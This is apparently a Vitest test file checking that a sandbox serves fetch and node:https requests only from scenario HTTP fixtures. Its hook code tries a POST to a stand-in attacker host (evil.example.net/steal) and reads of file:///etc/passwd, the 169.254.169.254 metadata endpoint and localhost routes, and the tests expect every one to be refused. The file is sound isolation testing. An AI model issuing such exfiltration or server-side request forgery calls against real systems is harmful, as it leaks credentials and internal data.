import { afterEach, describe, expect, it } from "vitest";
import type { HttpFixture } from "../../../core/sandbox/http";
import { callOf, chain, createHarness, pipelineOf } from "../testHarness";

/** fetch in the sandbox (issue 15): answered from the scenario's HTTP fixtures only, each exchange on the hook's card. */

const harness = createHarness();
afterEach(() => harness.cleanup());

const fixtures: HttpFixture[] = [
  { method: "POST", url: "https://api.example.com/v1/moderate", status: 200, headers: { "content-type": "application/json" }, body: '{"flagged":false}', delayMs: 300 },
  { method: "GET", url: "https://api.example.com/users/*", status: 404, headers: {}, body: "no such user", delayMs: 0 },
];

describe("fetch", () => {
  it("answers from the fixtures, with the delay on the virtual clock, and records each exchange", async () => {
    const runner = await harness.open(
      pipelineOf({
        h: `export default async (ctx: any) => {
  const t0 = Date.now();
  const res = await fetch("https://api.example.com/v1/moderate", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ text: "hi" }) });
  const data = await res.json();
  const waited = Date.now() - t0;
  const missing = await fetch(new URL("https://api.example.com/users/42"));
  let refused = "";
  try { await fetch("https://evil.example.net/steal", { method: "post" }); } catch (e) { refused = (e as Error).name + ": " + (e as Error).message; }
  ctx.out = { ok: res.ok, status: res.status, type: res.headers.get("Content-Type"), data, waited, missing: [missing.status, missing.ok, await missing.text()], refused };
};`,
      }),
      { http: fixtures },
    );
    const call = callOf(await chain(runner, ["h"], {}), "h");
    expect(call.failure).toBeNull();
    expect(call.patch).toEqual([
      {
        op: "add",
        path: "/out",
        value: {
          ok: true,
          status: 200,
          type: "application/json",
          data: { flagged: false },
          waited: 301,
          missing: [404, false, "no such user"],
          refused: "TypeError: no fixture for POST https://evil.example.net/steal: add one in the scenario's HTTP fixtures",
        },
      },
    ]);
    expect(call.requests).toEqual([
      { method: "POST", url: "https://api.example.com/v1/moderate", body: '{"text":"hi"}', status: 200, response: '{"flagged":false}' },
      { method: "GET", url: "https://api.example.com/users/42", status: 404, response: "no such user" },
      { method: "POST", url: "https://evil.example.net/steal", error: "no fixture for POST https://evil.example.net/steal: add one in the scenario's HTTP fixtures" },
    ]);
  });

  it("reaches nothing real: localhost and file: URLs without a fixture fail the call", async () => {
    const runner = await harness.open(
      pipelineOf({
        h: `export default async () => Promise.all(["http://127.0.0.1:3000/api/trpc/pipelines.list", "http://localhost/", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/"].map((u) => fetch(u).then(() => "fetched", (e) => (e as Error).message)));`,
      }),
    );
    expect(callOf(await chain(runner, ["h"], {}), "h").returned).toEqual([
      "no fixture for GET http://127.0.0.1:3000/api/trpc/pipelines.list: add one in the scenario's HTTP fixtures",
      "no fixture for GET http://localhost/: add one in the scenario's HTTP fixtures",
      "no fixture for GET file:///etc/passwd: add one in the scenario's HTTP fixtures",
      "no fixture for GET http://169.254.169.254/latest/meta-data/: add one in the scenario's HTTP fixtures",
    ]);
  });

  it("node:https request and get go through the same fixtures and are recorded", async () => {
    const runner = await harness.open(
      pipelineOf({
        h: `import https from "node:https";\nimport http from "node:http";\nexport default async (ctx: any) => {
  const post = await new Promise<string>((resolve, reject) => {
    const req = https.request("https://api.example.com/v1/moderate", { method: "POST", headers: { "content-type": "application/json" } }, (res: any) => {
      let data = ""; res.setEncoding("utf8"); res.on("data", (c: string) => (data += c)); res.on("end", () => resolve(res.statusCode + " " + data));
    });
    req.on("error", reject); req.write('{"text":'); req.end('"hi"}');
  });
  const refused = await new Promise<string>((resolve) => { http.get({ host: "127.0.0.1", port: 8080, path: "/admin" }, () => resolve("answered")).on("error", (e: Error) => resolve(e.message)); });
  ctx.out = { post, refused };
};`,
      }),
      { http: fixtures },
    );
    const call = callOf(await chain(runner, ["h"], {}), "h");
    expect(call.failure).toBeNull();
    expect(call.patch).toEqual([
      { op: "add", path: "/out", value: { post: '200 {"flagged":false}', refused: "no fixture for GET http://127.0.0.1:8080/admin: add one in the scenario's HTTP fixtures" } },
    ]);
    expect(call.requests).toEqual([
      { method: "POST", url: "https://api.example.com/v1/moderate", body: '{"text":"hi"}', status: 200, response: '{"flagged":false}' },
      { method: "GET", url: "http://127.0.0.1:8080/admin", error: "no fixture for GET http://127.0.0.1:8080/admin: add one in the scenario's HTTP fixtures" },
    ]);
  });
});
